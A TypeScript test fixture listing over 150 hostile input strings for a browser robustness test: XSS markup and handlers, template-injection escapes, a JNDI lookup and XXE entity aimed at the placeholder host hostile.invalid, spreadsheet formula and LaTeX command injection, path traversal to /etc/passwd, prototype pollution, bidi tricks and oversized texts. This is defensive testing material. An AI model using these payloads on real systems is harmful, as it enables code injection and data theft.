/**
 * Texts that try to become something other than text: markup, scripts, handlers, styles, templates, formulas, marks of
 * direction, invisible characters, and texts that are too long. A script that runs writes to `ran`; markup that loads
 * something loads it from `host`. A browser test puts each text into every input, and then checks both.
 */

/** The property of globalThis that a script of these texts would set. */
export const ran = "hostileTextRan";

/** The host that markup of these texts would load from. */
export const host = "hostile.invalid";

export interface HostileText {
  /** The name of the text, which is unique: what the text tries. */
  readonly name: string;
  /** One line of a file: without "\n". */
  readonly text: string;
}

const run = `globalThis.${ran}=1`;
const url = `https://${host}/x`;
const MEBIBYTE = 1 << 20;

/** Markup that runs a script, or loads something, as soon as it is parsed as HTML. */
const markup: Readonly<Record<string, string>> = {
  "a script": `<script>${run}</script>`,
  "a script in capitals": `<SCRIPT>${run}</SCRIPT>`,
  "a script after the end of one": `</script><script>${run}</script>`,
  "the end of a script with a blank": `</script ><script >${run}</script >`,
  "the end of a script in a string": `";</script><script>${run}//`,
  "a comment that hides the end of a script": `<!--<script>${run}//`,
  "the end of a comment": `--><script>${run}</script><!--`,
  "the other end of a comment": `--!><img src=x onerror=${run}>`,
  "a script from elsewhere": `<script src="${url}.js"></script>`,
  "a module from elsewhere": `<script type="module">import "${url}.js"</script>`,
  "the element of another report": `<div id="report" hidden="">H4sIAAAAAAAAA</div>`,
  "an image with a handler": `<img src=x onerror="${run}">`,
  "an image with a handler and no quotes": `<img src=x onerror=${run}>`,
  "an image with a handler and slashes": `<img/src=x/onerror=${run}>`,
  "an image from elsewhere": `<img src="${url}.png">`,
  "an image set from elsewhere": `<img srcset="${url}.png 1x">`,
  "a picture": `<picture><source srcset="${url}.webp"><img src=x></picture>`,
  "an image that is not closed": `<img src=x onerror=${run}//`,
  "a drawing that loads": `<svg onload="${run}">`,
  "a drawing with a script": `<svg><script>${run}</script></svg>`,
  "a drawing that is animated": `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  "a drawing that is used": `<svg><use href="${url}.svg#a"></use></svg>`,
  "a drawing with markup within": `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  "a drawing with a link": `<svg><a href="javascript:${run}"><text x="9" y="9">click</text></a></svg>`,
  "a formula with a link": `<math><mi href="javascript:${run}">x</mi></math>`,
  "a formula that hides markup": `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  "a frame": `<iframe src="javascript:${run}"></iframe>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${ran}=1</script>"></iframe>`,
  "a frame from elsewhere": `<iframe src="${url}"></iframe>`,
  "an object": `<object data="javascript:${run}"></object>`,
  "an object from elsewhere": `<object data="${url}.swf"></object>`,
  "an embedded thing": `<embed src="${url}.svg">`,
  "a video": `<video src=x onerror="${run}"></video>`,
  "a video with a poster": `<video poster="${url}.png"></video>`,
  "a sound": `<audio src=x onerror="${run}">`,
  "details that open": `<details open ontoggle="${run}">`,
  "a field that has the focus": `<input autofocus onfocus="${run}">`,
  "a field with a picture": `<input type="image" src="${url}.png" formaction="javascript:${run}">`,
  "a text field's end": `</textarea><img src=x onerror=${run}>`,
  "a choice's end": `</option></select><img src=x onerror=${run}>`,
  "a title's end": `</title><img src=x onerror=${run}>`,
  "a style's end": `</style><img src=x onerror=${run}>`,
  "no script": `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  "a template": `<template><script>${run}</script></template>`,
  "a body with a handler": `<body onload="${run}">`,
  "a marquee": `<marquee onstart="${run}">x</marquee>`,
  "a link to a script": `<a href="javascript:${run}">click</a>`,
  "a link to a script with tabs": `<a href="java\tscript:${run}">click</a>`,
  "a link to data": `<a href="data:text/html,<script>${run}</script>">click</a>`,
  "a link that pings": `<a href="#" ping="${url}">click</a>`,
  "a form": `<form action="${url}"><input name="a"><button>send</button></form>`,
  "a button of a form": `<button form="f" formaction="javascript:${run}">click</button>`,
  "a base": `<base href="${url}/">`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${url}">`,
  "another policy": `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  "a style sheet": `<link rel="stylesheet" href="${url}.css">`,
  "what is fetched ahead": `<link rel="prefetch" href="${url}">`,
  "a host that is looked up": `<link rel="dns-prefetch" href="//${host}">`,
  "a style that covers all": `<style>*{display:none!important}</style>`,
  "a style that loads": `<style>@import "${url}.css";</style>`,
  "an attribute that loads": `<p style="background:url(${url}.png)">x</p>`,
  "a declaration": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${url}">]><a>&b;</a>`,
  "a section of characters": `<![CDATA[<img src=x onerror=${run}>]]>`,
  entities: `&lt;img src=x onerror=${run}&gt;`,
  "entities by number": `&#60;script&#62;${run}&#x3c;/script&#x3e;`,
  "an entity without an end": `&lt script&gt ${run}`,
  "a tag that is broken": `<<script>${run}//<</script>`,
  "a tag with a null": `<scr\0ipt>${run}</scr\0ipt>`,
  "an element of its own": `<x-a onclick="${run}" is="x-b">x</x-a>`,
  "an element that is named as a property": `<form id="page"><input name="innerHTML"></form><a id="report">x</a>`,
  "a dialog": `<dialog open><p>Your session has ended</p></dialog>`,
};

/** Text that leaves an attribute, a script, a style or a template. */
const escapes: Readonly<Record<string, string>> = {
  "a double quote": `" onmouseover="${run}" x="`,
  "a single quote": `' onmouseover='${run}' x='`,
  "a back quote": "` onmouseover=`" + run + "`",
  "a quote and markup": `"><img src=x onerror=${run}>`,
  "a single quote and markup": `'><img src=x onerror=${run}>`,
  "no quote": `x onfocus=${run} autofocus`,
  "a string's end": `";${run};"`,
  "a string's end and a comment": `');${run}//`,
  "a backslash": `\\";${run}//`,
  "a template string": "${" + run + "}",
  "a template string within": "`${" + run + "}`",
  "two braces": `{{constructor.constructor('${run}')()}}`,
  "three braces": `{{{this.constructor.constructor("${run}")()}}}`,
  "a server's template": `<%= ${run} %>`,
  "another server's template": `<?php echo "${run}"; ?>`,
  "a hash and braces": `#{${run}}`,
  "a percent and braces": `{%raw%}${run}{%endraw%}`,
  "a lookup": `\${jndi:ldap://${host}/a}`,
  "an element of this page": `{"type":"img","props":{"src":"x","onerror":"${run}"},"key":null}`,
  "dangerous HTML": `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  "a style's value": `red;background:url(${url}.png)`,
  "an expression of a style": `expression(${run})`,
  "a style's comment": `*/}*{display:none}/*`,
  "a variable of a style": `var(--x,url(${url}.png))`,
  "a link of a script": `javascript:${run}`,
  "a link of data": `data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=`,
  "a link of a file": `file:///etc/passwd`,
  "a link elsewhere": url,
  "a link without a scheme": `//${host}/x`,
  "the hash of an address": `#baseline=99&metric=__proto__`,
  "a query of an address": `?a=1&b=<script>${run}</script>`,
};

/** Text that is special to JSON, objects, expressions, tables, LaTeX, paths. */
const names: Readonly<Record<string, string>> = {
  "the prototype": "__proto__",
  "the constructor": "constructor",
  "a method of all objects": "hasOwnProperty",
  "a way to a string": "toString",
  "a way to JSON": "toJSON",
  "a promise": "then",
  "an object with a prototype": `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
  "a list that looks like a segment": `["a",null,["b"]]`,
  "no object": "null",
  "no value": "undefined",
  "no number": "NaN",
  "a number": "1e999",
  "a minus": "-0",
  "the end of a list": `"],["`,
  "a class that is not closed": "[",
  "a group that is not closed": "(",
  "a repetition of nothing": "*",
  "an expression that takes for ever": "(a+)+$",
  "what that expression is slow on": `${"a".repeat(40)}!`,
  "a lone backslash": "\\",
  "a formula of a table": `=HYPERLINK("${url}","click")`,
  "a formula that runs": `=cmd|' /C calc'!A0`,
  "a formula with a plus": "+1+cmd",
  "a formula with an at": "@SUM(1+1)",
  "a field of a table": `"a","b"`,
  "a bar of Markdown": `| a | [click](javascript:${run}) | ![x](${url}.png) |`,
  "a fence of Markdown": "```",
  "a command of LaTeX": `\\input{/etc/passwd}\\write18{id}`,
  "what LaTeX escapes": "100% of $5 & #1_a {b} ~ ^ \\",
  "a comment of LaTeX": "% the rest is gone",
  "a path upwards": "../../../etc/passwd",
  "a path of Windows": "C:\\CON\\nul",
  "colours of a terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
};

/** Characters that nobody sees, that turn text round, or that are half a character. */
const characters: Readonly<Record<string, string>> = {
  nothing: "",
  "a blank": " ",
  "a null": "a\0b",
  "all controls": String.fromCharCode(
    ...Array.from({ length: 0xa0 }, (_, i) => i).filter((code) => code !== 0x0a && (code < 0x20 || code >= 0x7f)),
  ),
  "a carriage return": "a\rb",
  "separators of lines": "a\u2028b\u2029c\x85d\vf\f",
  "text that is turned round": "\u202egpj.exe\u202c and \u202dmore",
  "an override that is not ended": "\u202e\u202e\u202e",
  "an isolate that is not ended": "\u2066\u2067\u2068a",
  "ends without beginnings": "\u2069\u2069\u202c\u202ca",
  "markup that is turned round": `\u202e>${[...run].reverse().join("")}=rorrEno x=crs gmi<`,
  "Hebrew and marks": "\u200fשלום\u200e (a) [b] 12",
  "characters without width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
  "a byte order mark": "\ufeffa",
  tags: `a${String.fromCodePoint(0xe0001, 0xe0068, 0xe0069, 0xe007f)}b`,
  variants: "a\ufe0f\u{e0100}b",
  "half a pair": "a\ud800b",
  "the other half": "\udc00a",
  "halves in the wrong order": "\udc00\ud800",
  "no characters": "\uffff\ufffe\u{1ffff}",
  "private characters": "\ue000\u{f0000}",
  "many marks on a letter": `Z${"\u0301\u0337\u0353".repeat(200)}`,
  "letters that look alike": "раураl",
  "wide letters": "＜script＞",
  "a Turkish i": "İıſK",
  "a ligature": "ﷺﷺﷺ",
  "a family": "👨‍👩‍👧‍👦🏳️‍🌈🇩🇪",
  fillers: "\u3164\u115f\uffa0\u2800",
};

/** Texts that are too long. */
const long: Readonly<Record<string, () => string>> = {
  "a word of a mebibyte": () => "a".repeat(MEBIBYTE),
  "words of a mebibyte": () => "ab cd efg ".repeat(MEBIBYTE / 10),
  "markup of a mebibyte": () => `<img src=x onerror=${run}>`.repeat(Math.floor(MEBIBYTE / 44)),
  "marks of direction of a mebibyte": () => "\u202e\u2066".repeat(MEBIBYTE / 8),
  "emoji of a mebibyte": () => "👩‍🚀".repeat(Math.floor(MEBIBYTE / 11)),
  "ten thousand tags": () => "<b>".repeat(10_000),
  "ten thousand brackets": () => "[".repeat(10_000),
};

/** All hostile texts: 150 or more. */
export const hostileTexts: readonly HostileText[] = [
  ...[markup, escapes, names, characters].flatMap((group) =>
    Object.entries(group).map(([name, text]) => ({ name, text })),
  ),
  ...Object.entries(long).map(([name, make]) => ({
    name,
    get text() {
      return make();
    },
  })),
];
